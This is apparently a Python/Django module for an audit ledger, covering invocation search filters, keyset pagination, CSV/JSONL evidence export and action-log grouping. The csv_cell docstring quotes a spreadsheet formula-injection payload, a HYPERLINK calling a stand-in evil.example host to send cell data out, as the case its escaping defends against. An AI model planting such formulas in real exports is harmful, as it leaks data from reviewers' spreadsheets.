"""Audit search and export: filters over invocations, streamed evidence rows."""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

from django import forms
from django.db.models import Case, Count, Min, Q, QuerySet, When

from ledger import policy
from ledger.models import (
    HAS_BUSINESS_REFERENCE,
    Event,
    Invocation,
    events_recorded_between,
)

# Each exported column, in order, and where an event has it.
EXPORTED = {
    "invocation_id": "invocation__invocation_id",
    "task_id": "invocation__task_id",
    "runtime": "invocation__runtime__name",
    "capability": "invocation__capability_scope",
    "subject": "invocation__subject",
    "status": "invocation__status",
    "cause": "invocation__cause",
    "flags": "invocation__flags",
    "seq": "seq",
    "kind": "kind",
    "actor": "actor",
    "created_at": "created_at",
    "prev_hash": "prev_hash",
    "hash": "hash",
    "data": "data",
}
EXPORT_COLUMNS = list(EXPORTED)


class AuditFilterForm(forms.Form):
    # The ledger's clock is UTC: the label says so, the placeholder shows the format.
    since = forms.DateTimeField(
        required=False,
        label="Since (UTC)",
        widget=forms.DateTimeInput(attrs={"placeholder": "2026-12-31 09:00"}),
    )
    until = forms.DateTimeField(
        required=False,
        label="Until (UTC)",
        widget=forms.DateTimeInput(attrs={"placeholder": "2026-12-31 18:00"}),
    )
    runtime = forms.CharField(required=False)
    task_id = forms.CharField(required=False)
    invocation_id = forms.CharField(required=False)
    subject = forms.CharField(required=False)
    capability = forms.CharField(required=False)
    status = forms.ChoiceField(
        required=False, choices=[("", "any status"), *[(s.value, s.value) for s in policy.Status]]
    )
    cause = forms.ChoiceField(
        required=False, choices=[("", "any cause"), *[(c.value, c.value) for c in policy.Cause]]
    )
    flag = forms.ChoiceField(
        required=False, choices=[("", "any flags"), *[(f.value, f.value) for f in policy.Flag]]
    )
    operator = forms.CharField(required=False, help_text="a console user who acted")
    business_reference = forms.CharField(
        required=False, help_text="named by an outcome, a probe's finding or a resolution"
    )
    order = forms.ChoiceField(
        required=False, choices=[("newest", "newest first"), ("oldest", "oldest first")]
    )
    after = forms.CharField(required=False, widget=forms.HiddenInput)

    def clean_after(self) -> tuple[dt.datetime, int] | None:
        value = self.cleaned_data["after"]
        if not value:
            return None
        try:
            return parse_cursor(value)
        except ValueError:
            raise forms.ValidationError("not a page cursor from this search") from None


# Pages follow (created_at, id), newest or oldest first: keyset pagination, so every
# page costs the same at millions of rows. The cursor is URL-safe on purpose.
def page_cursor(invocation: Invocation) -> str:
    micros = round(invocation.created_at.timestamp() * 1_000_000)
    return f"{micros}-{invocation.pk}"


def parse_cursor(value: str) -> tuple[dt.datetime, int]:
    micros, _, pk = value.partition("-")
    if not (micros.isdigit() and pk.isdigit()):
        raise ValueError(value)
    return EPOCH + dt.timedelta(microseconds=int(micros)), int(pk)


EPOCH = dt.datetime(1970, 1, 1, tzinfo=dt.UTC)


def filters_given(data: Mapping[str, Any]) -> dict[str, str]:
    """The filters a search was given, as text: what a bundle's manifest records."""
    return {
        name: value.isoformat() if isinstance(value, dt.datetime) else str(value)
        for name, value in data.items()
        if value not in (None, "") and name not in ("after", "order")
    }


def filters_described(data: Mapping[str, Any]) -> str:
    """The filters a search was given, in a line: `capability=refund.create, ...`."""
    given = filters_given(data)
    return ", ".join(f"{name}={value}" for name, value in given.items()) or "no filter"


def search(data: Mapping[str, Any]) -> QuerySet[Invocation]:
    """The invocations matching the filters, in time order, after the page cursor."""
    rows = Invocation.objects.select_related("runtime")
    exact = {
        "task_id": "task_id",
        "invocation_id": "invocation_id",
        "subject": "subject",
        "capability": "capability_scope",
        "status": "status",
        "cause": "cause",
    }
    for name, lookup in exact.items():
        if data.get(name):
            rows = rows.filter(**{lookup: data[name]})
    if data.get("runtime"):
        rows = rows.of_runtime_named(data["runtime"])
    if data.get("since"):
        rows = rows.filter(created_at__gte=data["since"])
    if data.get("until"):
        rows = rows.filter(created_at__lt=data["until"])
    if data.get("flag"):
        rows = rows.filter(flags__contains=[data["flag"]])
    newest_first = data.get("order", "newest") != "oldest"
    if data.get("after"):
        at, pk = data["after"]
        # (created_at, id) past the cursor, written so the range bounds an index scan.
        if newest_first:
            rows = rows.filter(created_at__lte=at).exclude(created_at=at, pk__gte=pk)
        else:
            rows = rows.filter(created_at__gte=at).exclude(created_at=at, pk__lte=pk)

    def in_months(via: str = "") -> Q:
        """The events searched below: those of invocations recorded in the time range and
        past the cursor, said of their partition key so that other months are not read."""
        months = events_recorded_between(data.get("since"), data.get("until"), via=via)
        if data.get("after"):
            past = "lte" if newest_first else "gte"
            months &= Q((f"{via}invocation_created_at__{past}", data["after"][0]))
        return months

    if data.get("business_reference"):
        naming = naming_reference(data["business_reference"], Event.objects.filter(in_months()))
        rows = rows.filter(pk__in=naming.values("invocation_id"))
    order = ["created_at", "pk"]
    if data.get("operator"):
        # Joined to the person's events, walked through event_by_person in the order of
        # their invocations (whose created_at and id they copy), each invocation once: a
        # page reads a page of them, however many invocations the person acted on. (As a
        # semi-join, PostgreSQL read every one of them, then sorted.) The name alone
        # implies the partial index's condition.
        person = f"user:{data['operator']}"
        acted = Q(events__actor=person) & in_months("events__")
        order = ["events__invocation_created_at", "events__invocation_id"]
        rows = rows.filter(acted).distinct(*order)
    return rows.order_by(*([f"-{name}" for name in order] if newest_first else order))


def naming_reference(reference: str, events: QuerySet[Event] | None = None) -> QuerySet[Event]:
    """The events (of `events`, or all) whose data names this business reference.

    Spelled with event_business_reference's own condition so PostgreSQL can use it.
    """
    events = Event.objects.all() if events is None else events
    return events.filter(HAS_BUSINESS_REFERENCE, data__business_reference=reference)


def invocations_naming(reference: str, *, besides: str, limit: int) -> list[Invocation]:
    """Up to `limit` invocations other than `besides` whose evidence names the
    reference, oldest first."""
    naming = naming_reference(reference).values("invocation_id")
    rows = Invocation.objects.filter(pk__in=naming).exclude(invocation_id=besides)
    return list(rows.order_by("created_at", "pk")[:limit])


def export_rows(filters: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """Every event of the invocations the search's filters match (every page of
    them), one row each, in constant memory."""
    invocations = search({**filters, "after": None})
    # Their events are in the months of the time range: the others are not read.
    months = Event.objects.recorded_between(filters.get("since"), filters.get("until"))
    # The columns alone, without a model instance per event and its invocation's and
    # runtime's: building those took a third of an export's time.
    events = (
        months.filter(invocation__in=invocations.order_by().values("pk"))
        .order_by("invocation_id", "seq")
        .values_list(*EXPORTED.values())
    )
    for values in events.iterator(chunk_size=2000):
        row = dict(zip(EXPORTED, values, strict=True))
        row["created_at"] = row["created_at"].isoformat()
        yield row


class _Echo:
    def write(self, value: str) -> str:
        return value


# A spreadsheet reads a cell that starts with one of these (after any blanks it
# strips) as a formula; OWASP's list, plus the quote itself so that unquoting is exact.
_FORMULA_START = re.compile(r"\s*[=+\-@\t\r]|'")


def csv_cell(value: str) -> str:
    """The value as a spreadsheet shows it, never run as a formula.

    A runtime chooses its invocations' subjects, and a subject such as
    `=HYPERLINK("https://evil.example/?"&A1)` would run in the reviewer's spreadsheet.
    Such a cell gets a leading `'`, which spreadsheets hide, and so does a value that
    already starts with one: dropping one leading `'` from every cell that has one
    gives back the recorded values. (defusedcsv also rewrites `|` inside the cell,
    which could not be undone.) The JSONL export is always verbatim.
    """
    return "'" + value if _FORMULA_START.match(value) else value


def csv_lines(rows: Iterable[dict[str, Any]]) -> Iterator[str]:
    """One line per event; a cell holds text, so flags are space-separated and the
    event's data is JSON with sorted keys."""
    writer = csv.DictWriter(_Echo(), fieldnames=EXPORT_COLUMNS)
    yield writer.writeheader()  # type: ignore[func-returns-value]
    for row in rows:
        flat = {**row, "flags": " ".join(row["flags"]), "data": _sorted_json(row["data"])}
        cells = {k: csv_cell(v) if isinstance(v, str) else v for k, v in flat.items()}
        yield writer.writerow(cells)  # type: ignore[misc]


def jsonl_lines(rows: Iterable[dict[str, Any]]) -> Iterator[str]:
    """One JSON object per event: flags a list, data an object with sorted keys."""
    for row in rows:
        yield json.dumps({**row, "data": json.loads(_sorted_json(row["data"]))}) + "\n"


def _sorted_json(value: Any) -> str:
    return json.dumps(value, sort_keys=True)


# The action log -----------------------------------------------------------------


@dataclass
class ActionLine:
    """One line of the action log: an event, or consecutive events of one person acting
    on every invocation of a capability alike (`every_of`: a re-run of its probes)."""

    newest: Event
    oldest: Event
    count: int = 1  # events
    invocations: int = 1  # an operator may re-run a capability's probes twice in a row

    @property
    def operator(self) -> str:
        return self.newest.actor.removeprefix("user:")


def _one_request(event: Event) -> tuple[str, str, str] | None:
    """What consecutive events of one line share; None for an event of its own line."""
    every_of = event.data.get("every_of") if isinstance(event.data, dict) else None
    return (event.actor, event.kind, every_of) if every_of else None


def action_lines(
    events: QuerySet[Event], *, before: int | None, lines: int
) -> tuple[list[ActionLine], int | None]:
    """Up to `lines` lines of `events`, newest first, from the event before pk
    `before`; and the pk the next page starts before (None: this is the last)."""
    found: list[ActionLine] = []
    while True:
        older = events if before is None else events.filter(pk__lt=before)
        # One more than the lines wanted: whether another page follows them.
        for event in older.order_by("-pk")[: lines - len(found) + 1]:
            if len(found) == lines:
                return found, found[-1].oldest.pk
            line = _line_from(events, event)
            found.append(line)
            before = line.oldest.pk
            if line.count > 1:
                break  # what follows a run is read after it
        else:
            return found, None


def _line_from(events: QuerySet[Event], newest: Event) -> ActionLine:
    """The line `newest` starts: itself alone, or with the older events of its run,
    counted in SQL, whatever their number (a re-run of a capability's probes records
    one for each of its escalations)."""
    request = _one_request(newest)
    if request is None:
        return ActionLine(newest=newest, oldest=newest)
    actor, kind, every_of = request
    of_the_run = Q(actor=actor, kind=kind, data__every_of=every_of)
    # The newest older event of another line (CASE: an event with no `every_of` is
    # one, where the bare condition would be NULL).
    boundary = (
        events.filter(pk__lt=newest.pk)
        .alias(of_the_run=Case(When(of_the_run, then=True), default=False))
        .filter(of_the_run=False)
        .order_by("-pk")
        .values_list("pk", flat=True)
        .first()
    )
    run = events.filter(pk__lte=newest.pk, pk__gt=boundary or 0)
    extent = run.aggregate(
        count=Count("pk"), invocations=Count("invocation", distinct=True), oldest=Min("pk")
    )
    oldest = newest if extent["oldest"] == newest.pk else events.get(pk=extent["oldest"])
    return ActionLine(newest, oldest, extent["count"], extent["invocations"])
